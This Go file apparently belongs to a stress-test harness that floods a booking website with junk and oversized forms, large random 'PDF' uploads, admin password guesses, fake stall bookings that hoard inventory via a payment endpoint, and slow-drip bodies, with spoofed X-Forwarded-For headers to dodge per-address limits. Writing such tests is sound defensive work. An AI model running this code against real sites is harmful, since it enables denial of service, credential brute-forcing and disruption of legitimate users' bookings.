package main

import (
	"bytes"
	"context"
	"crypto/rand"
	"fmt"
	"io"
	"mime/multipart"
	"net/http"
	"strings"
	"sync"
	"time"
)

const addresses = 50

// flood attacks the site until ctx ends. The returned function waits for the end of the attack. It returns the number
// of responses by status.
func (s *site) flood(ctx context.Context, connections int) func() map[int]int {
	var mu sync.Mutex
	answers := map[int]int{}
	var all sync.WaitGroup
	kinds := []func(int) *http.Request{s.junk, s.large, s.upload, s.guess, s.hold, s.slow}
	for i := range connections {
		c, next := client(nil, time.Minute), kinds[i%len(kinds)]
		all.Go(func() {
			for n := i; ctx.Err() == nil; n += connections {
				r := next(n).WithContext(ctx)
				r.Header.Set("X-Forwarded-For", fmt.Sprintf("203.0.113.%d", i%addresses+1))
				status := 0
				if response, err := c.Do(r); err == nil {
					_, _ = io.Copy(io.Discard, response.Body)
					_ = response.Body.Close() // an attacker ignores errors
					status = response.StatusCode
				}
				mu.Lock()
				answers[status]++
				mu.Unlock()
				pause(ctx, 5*time.Millisecond) // limits the load, because the program runs on the same machine
			}
		})
	}
	return func() map[int]int {
		all.Wait()
		return answers
	}
}

func (s *site) request(path, contentType string, body io.Reader) *http.Request {
	r, err := http.NewRequestWithContext(context.Background(), http.MethodPost, s.url+path, body)
	if err != nil {
		panic(err) // fails only if a path in this file is invalid
	}
	r.Header.Set("Content-Type", contentType)
	return r
}

// junk returns a request that makes the site render a form with errors.
func (s *site) junk(n int) *http.Request {
	return s.request([]string{"/stallbooking", "/registration", "/ContactUs"}[n%3], "application/x-www-form-urlencoded",
		strings.NewReader("card=private&name=x"))
}

// large returns a form that is as large as it may be, or far larger. Its text becomes six times as long when the site
// writes it into a page.
func (s *site) large(n int) *http.Request {
	size := []int{60 << 10, 900 << 10}[n%2]
	fields := "card=private&requirements=" + strings.Repeat("<", size)
	return s.request("/stallbooking", "application/x-www-form-urlencoded", strings.NewReader(fields))
}

// upload returns a request that uploads 2 MB of random data as a PDF. The data is generated only once, because the
// attackers use the same processors as the program.
func (s *site) upload(n int) *http.Request {
	name := fmt.Sprintf("--%s\r\nContent-Disposition: form-data; name=\"name\"\r\n\r\nJunk %d\r\n", boundary, n)
	r := s.request("/volunteer", "multipart/form-data; boundary="+boundary,
		io.MultiReader(strings.NewReader(name), bytes.NewReader(noisyFile())))
	r.ContentLength = int64(len(name) + len(noisyFile()))
	return r
}

const boundary = "hostile-boundary"

// noisyFile returns the end of an upload's body, which consists of the file's part and the closing boundary.
var noisyFile = sync.OnceValue(func() []byte {
	var body bytes.Buffer
	form := multipart.NewWriter(&body)
	_ = form.SetBoundary(boundary) // never fails, because the boundary contains only allowed characters
	part, _ := form.CreateFormFile("biodata", "cv.pdf")
	noise := make([]byte, 2<<20)
	_, _ = rand.Read(noise) // never fails
	_, _ = part.Write(append([]byte("%PDF-1.4\n"), noise...))
	_, _ = part.Write([]byte("\nstartxref\n0\n%%EOF\n"))
	_ = form.Close()
	return body.Bytes()
})

func (s *site) guess(n int) *http.Request {
	return s.request("/api/admin/login", "application/json",
		strings.NewReader(fmt.Sprintf(`{"email":%q,"password":"guess number %d"}`, s.email, n)))
}

func (s *site) hold(n int) *http.Request {
	body := fmt.Sprintf(`{"booking":{"name":"Hoarder %d","phone":"9%09d","address":"Nowhere","type":"STD Stall","category":"Private Company","card":"private",
		"stalls":[{"stallnumber":"%d","stallSize":"3x3m"}]}}`, n, n%1_000_000_000, n%80+1)
	return s.request("/api/cashfree/create-order", "application/json", strings.NewReader(body))
}

// drip is a request body that delivers one byte per second.
type drip struct{}

func (drip) Read(p []byte) (int, error) {
	time.Sleep(time.Second)
	p[0] = 'x'
	return 1, nil
}

func (s *site) slow(int) *http.Request {
	return s.request("/registration", "application/x-www-form-urlencoded", io.LimitReader(drip{}, 1000))
}
